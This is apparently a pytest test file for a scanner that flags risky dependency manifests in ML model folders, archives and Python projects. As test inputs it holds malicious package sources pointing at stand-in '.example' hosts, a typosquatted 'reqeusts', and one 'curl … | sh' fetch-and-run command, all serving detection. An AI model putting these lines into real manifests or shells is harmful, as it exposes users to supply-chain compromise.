"""Dependency manifests: requirements files, conda/MLflow environments, pyproject.toml and
TorchServe archive manifests (issue 14, item 2).

Clean files are written as the real tools write them (MLflow's writers reproduced in
``tests/factories/mlflow_env.py``; ``.mar`` archives built by torch-model-archiver itself);
malicious variants are hand-made and name hosts under ``.example`` (nothing is fetched or
installed: the scanner never runs pip).
"""

from __future__ import annotations

import json
import shutil
import subprocess
import zipfile
from pathlib import Path

import pytest

import modelxray
from modelxray.analysis import requirements as req
from modelxray.analysis._generated.popular_packages import KNOWN, TARGETS
from modelxray.formats.notebook import judge_shell
from modelxray.model import Finding, Report, Severity
from tests.factories import mlflow_env
from tests.test_repo_files import _notebook

EVIL_INDEX = "https://packages.evil.example/simple"


def _scan(*paths: Path) -> Report:
    return modelxray.scan([str(p) for p in paths])


def _findings(report: Report, prefix: str = "MX-MANIFEST") -> list[Finding]:
    return [f for f in report.findings if f.rule_id.startswith(prefix)]


def _ids(report: Report) -> set[str]:
    return {f.rule_id for f in _findings(report)}


def _worst(report: Report) -> Severity:
    return max((f.severity for f in report.findings), default=Severity.INFO)


# -- MLflow model folders as MLflow writes them -----------------------------------------------
def test_mlflow_model_folder_is_read_and_clean(tmp_path: Path) -> None:
    folder = mlflow_env.model_dir(tmp_path / "model")
    (folder / "python_model.pkl").write_bytes(b"\x80\x04K\x01.")
    report = _scan(folder)
    formats = {Path(f.path).name: f.formats for f in report.files}
    assert formats["requirements.txt"] == ["pip-requirements"]
    assert formats["conda.yaml"] == ["conda-env"]
    assert formats["python_env.yaml"] == ["conda-env", "mlflow-python-env"]
    # python_env.yaml's "-r requirements.txt" is an include (info), followed and judged clean
    assert {(f.rule_id, f.severity) for f in _findings(report)} == {
        ("MX-MANIFEST-005", Severity.INFO)
    }
    assert report.verdict == "allowed"


@pytest.mark.parametrize(
    ("line", "rule", "severity"),
    [
        (f"--extra-index-url {EVIL_INDEX}", "MX-MANIFEST-001", Severity.HIGH),
        (f"-i {EVIL_INDEX}", "MX-MANIFEST-001", Severity.HIGH),
        ("git+https://git.evil.example/x/helpers.git", "MX-MANIFEST-002", Severity.HIGH),
        ("helpers @ https://files.evil.example/helpers-1.0-py3-none-any.whl", "MX-MANIFEST-002",
         Severity.HIGH),
        ("reqeusts==2.31.0", "MX-MANIFEST-004", Severity.HIGH),
    ],
)  # fmt: skip
def test_malicious_mlflow_requirements_fail_the_gate_in_every_file(
    tmp_path: Path, line: str, rule: str, severity: Severity
) -> None:
    deps = ["mlflow==2.9.2", "cloudpickle==2.2.1", line]
    folder = mlflow_env.model_dir(tmp_path / "model", deps)
    report = _scan(folder)
    by_file: dict[str, set[tuple[str, Severity]]] = {}
    for f in _findings(report):
        name = Path(f.location.path).name
        by_file.setdefault(name, set()).add((f.rule_id, f.severity))
    # the same spec gets the same verdict in requirements.txt and in conda.yaml's pip: list,
    # and python_env.yaml's include reaches it too
    for name in ("requirements.txt", "conda.yaml", "python_env.yaml"):
        assert (rule, severity) in by_file[name], (name, by_file)
    assert report.verdict == "blocked"


def test_conda_env_with_a_url_channel_and_git_pip_entry(tmp_path: Path) -> None:
    text = mlflow_env.conda_env(
        ["mlflow==2.9.2", "git+https://git.evil.example/x/y.git"],
        channels=["https://conda.evil.example/channel"],
    )
    path = tmp_path / "environment.yml"
    path.write_text(text)
    report = _scan(path)
    got = {(f.rule_id, str(f.location).rsplit(" › ", 1)[-1]) for f in _findings(report)}
    assert ("MX-MANIFEST-008", "channels[1]") in got
    assert ("MX-MANIFEST-002", "pip[1]") in got
    assert report.verdict == "blocked"


def test_conda_env_of_a_real_project_shape(tmp_path: Path) -> None:
    # The shape of CompVis/stable-diffusion's published environment.yaml: conda specs, a pip
    # list with pinned names, an editable git install and the project itself ("-e .").
    path = tmp_path / "environment.yaml"
    path.write_text(
        "name: ldm\nchannels:\n  - pytorch\n  - defaults\ndependencies:\n  - python=3.8.5\n"
        "  - pip=20.3\n  - cudatoolkit=11.3\n  - pytorch=1.11.0\n  - numpy=1.19.2\n  - pip:\n"
        "    - albumentations==0.4.3\n    - opencv-python==4.1.2.30\n"
        "    - -e git+https://github.com/CompVis/taming-transformers.git@master"
        "#egg=taming-transformers\n    - -e .\n"
    )
    report = _scan(path)
    got = {(f.rule_id, f.severity) for f in _findings(report)}
    # installing from git is high wherever it is written (as a notebook's %pip install git+);
    # the project's own folder is medium; the standard channels and pinned names are clean
    assert got == {("MX-MANIFEST-002", Severity.HIGH), ("MX-MANIFEST-003", Severity.MEDIUM)}


def test_conda_env_export_is_clean(tmp_path: Path) -> None:
    # the shape `conda env export` writes: name=version=build specs, "_"-prefixed names
    path = tmp_path / "environment.yml"
    path.write_text(
        "name: base\nchannels:\n  - pytorch\n  - nvidia\n  - defaults\ndependencies:\n"
        "  - _libgcc_mutex=0.1=main\n  - _openmp_mutex=5.1=1_gnu\n"
        "  - python=3.10.13=h955ad1f_0\n  - pytorch-cuda=12.1=ha16c6d3_5\n  - pip:\n"
        "    - absl-py==1.0.0\nprefix: /opt/conda/envs/base\n"
    )
    report = _scan(path)
    assert report.files[0].formats == ["conda-env"] and report.findings == []


def test_conda_named_channel_is_low_and_pip_variables_are_options(tmp_path: Path) -> None:
    path = tmp_path / "environment.yml"
    path.write_text(
        "name: x\nchannels:\n- someone\ndependencies:\n- someone::numpy\n- python=3.11\n"
        f"variables:\n  PIP_EXTRA_INDEX_URL: {EVIL_INDEX}\n"
    )
    report = _scan(path)
    got = sorted((f.rule_id, f.severity, f.location.path) for f in _findings(report))
    assert [(r, s) for r, s, _ in got] == [
        ("MX-MANIFEST-001", Severity.HIGH),
        ("MX-MANIFEST-008", Severity.LOW),
        ("MX-MANIFEST-008", Severity.LOW),
    ]


# -- requirements files: verdicts, benign look-alikes, includes -------------------------------
def test_benign_requirements_stay_clean(tmp_path: Path) -> None:
    path = tmp_path / "requirements.txt"
    path.write_text(
        "# inference\ntorch==2.3.0+cpu --hash=sha256:" + "0" * 64 + "\n"
        "transformers[torch]>=4.40,<5\npython-dateutil\ntorchx==0.7.0\npyyaml ; python_version"
        ' >= "3.8"\nnumpy>=1.23 \\\n    --hash=sha256:' + "1" * 64 + "\n--prefer-binary\n"
    )
    report = _scan(path)
    assert report.files[0].formats == ["pip-requirements"]
    assert report.findings == []


def test_known_vendor_index_is_below_the_gate(tmp_path: Path) -> None:
    path = tmp_path / "requirements-gpu.txt"
    path.write_text(
        "--extra-index-url https://download.pytorch.org/whl/cu121\ntorch==2.3.0\n"
        "-f https://data.pyg.org/whl/torch-2.3.0+cu121.html\ntorch-scatter\n"
    )
    report = _scan(path)
    assert {(f.rule_id, f.severity) for f in report.findings} == {
        ("MX-MANIFEST-001", Severity.MEDIUM),
        ("MX-MANIFEST-001", Severity.LOW),
    }
    assert report.verdict == "allowed"


def test_includes_are_followed_within_the_folder_only(tmp_path: Path) -> None:
    repo = tmp_path / "repo"
    (repo / "reqs").mkdir(parents=True)
    (repo / "requirements.txt").write_text(
        "-r reqs/base.txt\n-c constraints.txt\n-r requirements.txt\n-r /etc/requirements.txt\n"
    )
    (repo / "reqs" / "base.txt").write_text("numpy\n-r ../reqs/extra.txt\n")
    (repo / "reqs" / "extra.txt").write_text(f"--index-url {EVIL_INDEX}\n")
    (repo / "constraints.txt").write_text("numpy<3\n")
    report = _scan(repo / "requirements.txt")
    got = {(f.rule_id, str(f.location).split(" › ", 1)[1]) for f in report.findings}
    assert (
        "MX-MANIFEST-001",
        "line:1 › reqs/base.txt › line:2 › ../reqs/extra.txt › line:1",
    ) in got
    assert ("MX-MANIFEST-005", "line:4") in got  # outside the repository: reported, not read
    medium = [f for f in report.findings if f.location.inner[-1] == "line:4"]
    assert medium[0].severity == Severity.MEDIUM
    assert report.verdict == "blocked"


def test_local_paths_inside_and_outside_the_repository(tmp_path: Path) -> None:
    path = tmp_path / "requirements.txt"
    path.write_text("-e .\n./wheels/helpers-1.0-py3-none-any.whl\n/opt/wheels/x.whl\n")
    sev = {f.location.inner[-1]: f.severity for f in _scan(path).findings}
    assert sev == {"line:1": Severity.MEDIUM, "line:2": Severity.MEDIUM, "line:3": Severity.HIGH}


def test_build_options_and_unparsed_lines(tmp_path: Path) -> None:
    path = tmp_path / "requirements.txt"
    path.write_text(
        "helpers --global-option=build_ext\nnumpy\nsomething from https://x.evil.example\n"
    )
    got = {(f.rule_id, f.severity) for f in _scan(path).findings}
    assert got == {("MX-MANIFEST-006", Severity.MEDIUM), ("MX-MANIFEST-007", Severity.HIGH)}


@pytest.mark.parametrize(
    ("name", "text"),
    [
        ("vocab.txt", "[PAD]\n[UNK]\nthe\nof\nand\n##ing\n"),
        ("labels.txt", "cat\ndog\nbird\n"),
        ("notes.txt", "Install with pip install -r requirements.txt\n"),
        ("merges.txt", "#version: 0.2\nĠ t\nĠ a\n"),
    ],
)
def test_text_files_that_are_not_requirements_are_not_claimed(
    tmp_path: Path, name: str, text: str
) -> None:
    path = tmp_path / name
    path.write_text(text)
    report = _scan(path)
    assert "pip-requirements" not in report.files[0].formats
    assert _findings(report) == []


def test_requirements_recognised_by_content_under_another_name(tmp_path: Path) -> None:
    path = tmp_path / "deps.cfg"
    path.write_text(f"--extra-index-url {EVIL_INDEX}\nhelpers==1.0\n")
    report = _scan(path)
    assert report.files[0].formats == ["pip-requirements"]
    assert _ids(report) == {"MX-MANIFEST-001"}


# -- one verdict for one spec: requirements file, conda pip list, notebook %pip -----------------
SPECS = [
    "git+https://git.evil.example/x/y.git",
    "https://files.evil.example/y-1.0-py3-none-any.whl",
    f"--extra-index-url {EVIL_INDEX}",
    "--extra-index-url https://download.pytorch.org/whl/cu121",
    "--index-url https://download.pytorch.org/whl/cpu",
    "reqeusts",
    "-e .",
    "numpy==1.26.4",
]


@pytest.mark.parametrize("spec", SPECS)
def test_notebook_pip_install_and_requirements_line_agree(tmp_path: Path, spec: str) -> None:
    path = tmp_path / "requirements.txt"
    path.write_text(spec + "\n")
    file_severity = _worst(_scan(path))
    notebook = tmp_path / "nb.ipynb"
    notebook.write_text(json.dumps(_notebook([f"%pip install {spec}\n"])))
    shell = [f for f in _scan(notebook).findings if f.rule_id == "MX-REPO-104"]
    assert [f.severity for f in shell] == [max(file_severity, Severity.INFO)]
    assert judge_shell(f"pip install {spec}")[0] == file_severity


def test_notebook_shell_judge_keeps_its_other_verdicts() -> None:
    assert judge_shell("pip install x && curl -s http://x.example/i | sh")[0] == Severity.HIGH
    assert judge_shell("pip install transformers==4.40 torch")[0] == Severity.INFO
    assert judge_shell("ls -la")[0] == Severity.MEDIUM


# -- the judge itself ---------------------------------------------------------------------------
@pytest.mark.parametrize(
    ("name", "imitates"),
    [("reqeusts", "requests"), ("nunpy", "numpy"), ("pythondateutil", "python-dateutil"),
     ("scikitlearn", "scikit-learn"), ("tranformers", "transformers"), ("requests", None),
     ("torchx", None), ("python_dateutil", None), ("mylab-internal-tools", None)],
)  # fmt: skip
def test_lookalike(name: str, imitates: str | None) -> None:
    assert req.lookalike(name) == imitates


def test_popular_table_is_consistent() -> None:
    assert TARGETS <= KNOWN and len(TARGETS) == 1000
    assert all(n == req.normalise(n) for n in KNOWN)
    import tomllib

    corpus = tomllib.loads(Path("benchmarks/realworld/packages.toml").read_text())
    assert {req.normalise(p["name"]) for p in corpus["package"]} <= KNOWN


def test_pips_default_index_is_not_reported() -> None:
    pip_index = pytest.importorskip("pip._internal.models.index")
    assert req.judge_line(f"--index-url {pip_index.PyPI.simple_url}") == []
    assert [j.severity for j in req.judge_line(f"--index-url {EVIL_INDEX}")] == [Severity.HIGH]


def test_logical_lines_follow_pips_comment_and_continuation_rules() -> None:
    text = "a==1 # note\n#x\nb==2 \\\n  --hash=sha256:00\nurl#frag\n"
    assert [(x.number, x.text) for x in req.logical_lines(text)] == [
        (1, "a==1"),
        (3, "b==2 --hash=sha256:00"),
        (5, "url#frag"),
    ]


# -- pyproject.toml -------------------------------------------------------------------------------
def test_pyproject_build_code_and_remote_build_requirement(tmp_path: Path) -> None:
    path = tmp_path / "pyproject.toml"
    path.write_text(
        '[build-system]\nrequires = ["setuptools>=68", "helpers @ git+https://git.evil.example/h"]\n'
        'build-backend = "backend"\nbackend-path = ["_build"]\n\n'
        '[project]\nname = "m"\nversion = "1"\ndependencies = ["numpy", "reqeusts"]\n\n'
        "[tool.setuptools.cmdclass]\ninstall = \"_build.Install\"\n\n"
        '[[tool.poetry.source]]\nname = "x"\nurl = "https://packages.evil.example/simple"\n'
    )  # fmt: skip
    report = _scan(path)
    assert report.files[0].formats == ["pyproject"]
    got = {(f.rule_id, str(f.location).split(" › ", 1)[1]) for f in report.findings}
    assert got == {
        ("MX-MANIFEST-002", "build-system.requires › [1]"),
        ("MX-MANIFEST-103", "build-system.backend-path"),
        ("MX-MANIFEST-004", "project.dependencies › [1]"),
        ("MX-MANIFEST-103", "tool.setuptools.cmdclass"),
        ("MX-MANIFEST-001", "tool.poetry.source"),
    }


def test_plain_pyproject_is_clean(tmp_path: Path) -> None:
    path = tmp_path / "pyproject.toml"
    path.write_text(
        '[build-system]\nrequires = ["setuptools>=68", "wheel"]\n'
        'build-backend = "setuptools.build_meta"\n\n[project]\nname = "m"\nversion = "1"\n'
        'dependencies = ["torch>=2", "safetensors"]\n[project.optional-dependencies]\n'
        'dev = ["pytest"]\n'
    )
    report = _scan(path)
    assert report.files[0].formats == ["pyproject"] and report.findings == []


# -- TorchServe .mar built by torch-model-archiver --------------------------------------------
def _archiver() -> str:
    pytest.importorskip("model_archiver")
    exe = shutil.which("torch-model-archiver")
    if exe is None:
        pytest.skip("torch-model-archiver is not on PATH")
    return exe


def _mar(tmp_path: Path, requirements: str, handler: str = "handler.py") -> Path:
    torch = pytest.importorskip("torch")
    src = tmp_path / "src"
    src.mkdir()
    torch.save({"w": torch.zeros(2)}, src / "model.pt")
    (src / "handler.py").write_text(
        "from ts.torch_handler.base_handler import BaseHandler\n\n\n"
        "class Handler(BaseHandler):\n    pass\n"
    )
    (src / "requirements.txt").write_text(requirements)
    subprocess.run(
        [_archiver(), "--model-name", "m", "--version", "1.0",
         "--serialized-file", str(src / "model.pt"),
         "--handler", str(src / handler) if handler.endswith(".py") else handler,
         "--requirements-file", str(src / "requirements.txt"), "--export-path", str(tmp_path)],
        check=True, capture_output=True,
    )  # fmt: skip
    return tmp_path / "m.mar"


def test_mar_built_by_torch_model_archiver(tmp_path: Path) -> None:
    mar = _mar(tmp_path, "numpy==1.26.4\n")
    manifest = json.loads(zipfile.ZipFile(mar).read("MAR-INF/MANIFEST.json"))
    assert manifest["model"]["requirementsFile"] == "requirements.txt"
    report = _scan(mar)
    assert report.files[0].formats == ["zip", "torchserve-mar"]
    got = {(f.rule_id, f.severity, f.location.inner[-1]) for f in report.findings}
    assert got == {
        ("MX-MANIFEST-101", Severity.MEDIUM, "handler"),
        ("MX-MANIFEST-102", Severity.MEDIUM, "requirementsFile"),
    }
    assert report.verdict == "allowed"


def test_mar_with_a_builtin_handler_runs_no_archive_code(tmp_path: Path) -> None:
    mar = _mar(tmp_path, "numpy==1.26.4\n", handler="image_classifier")
    assert _ids(_scan(mar)) == {"MX-MANIFEST-102"}


def test_mar_with_malicious_requirements_is_blocked(tmp_path: Path) -> None:
    mar = _mar(tmp_path, f"--extra-index-url {EVIL_INDEX}\nreqeusts\n")
    report = _scan(mar)
    where = {f.rule_id: str(f.location) for f in report.findings}
    assert "requirements.txt › line:1" in where["MX-MANIFEST-001"]
    assert "requirements.txt › line:2" in where["MX-MANIFEST-004"]
    assert report.verdict == "blocked"


def test_builtin_handlers_match_the_archivers_own_table() -> None:
    utils = pytest.importorskip("model_archiver.model_packaging_utils")
    from modelxray.formats.torchserve import BUILTIN_HANDLERS

    assert set(utils.model_handlers) == BUILTIN_HANDLERS


def test_tool_only_pyproject_is_read_as_toml_not_json(tmp_path: Path) -> None:
    # requests' pyproject.toml: only [tool.*] tables; its first byte "[" once made it "JSON"
    path = tmp_path / "pyproject.toml"
    path.write_text(
        '[tool.isort]\nprofile = "black"\nsrc_paths = ["src/requests", "test"]\n'
        'honor_noqa = true\n\n[tool.pytest.ini_options]\naddopts = "--doctest-modules"\n'
    )
    report = _scan(path)
    assert report.files[0].formats == ["pyproject"]
    assert report.findings == [] and report.verdict == "allowed"


# -- setup.py ---------------------------------------------------------------------------------
SETUP_PY = """\
from setuptools import setup
from setuptools.command.install import install


class Install(install):
    def run(self):
        install.run(self)


setup(
    name="m",
    install_requires=["numpy>=1.2", "reqeusts", "helpers @ git+https://git.evil.example/h"],
    extras_require={"gpu": ["torch"]},
    dependency_links=["https://packages.evil.example/links"],
    cmdclass={"install": Install},
)
"""


def test_setup_py_is_read_as_a_manifest(tmp_path: Path) -> None:
    path = tmp_path / "setup.py"
    path.write_text(SETUP_PY)
    report = _scan(path)
    got = {(f.rule_id, f.severity, " › ".join(f.location.inner)) for f in _findings(report)}
    assert got == {
        ("MX-MANIFEST-004", Severity.HIGH, "line:10 › install_requires[1]"),
        ("MX-MANIFEST-002", Severity.HIGH, "line:10 › install_requires[2]"),
        ("MX-MANIFEST-001", Severity.HIGH, "line:10 › dependency_links[0]"),
        ("MX-MANIFEST-103", Severity.MEDIUM, "line:10 › cmdclass"),
    }


def test_plain_setup_py_is_clean(tmp_path: Path) -> None:
    path = tmp_path / "setup.py"
    path.write_text(
        "import setuptools\n\nsetuptools.setup(name='m', version='1', packages=['m'],\n"
        "    install_requires=['torch>=2', 'numpy'], extras_require={'dev': ['pytest']})\n"
    )
    assert _scan(path).findings == []
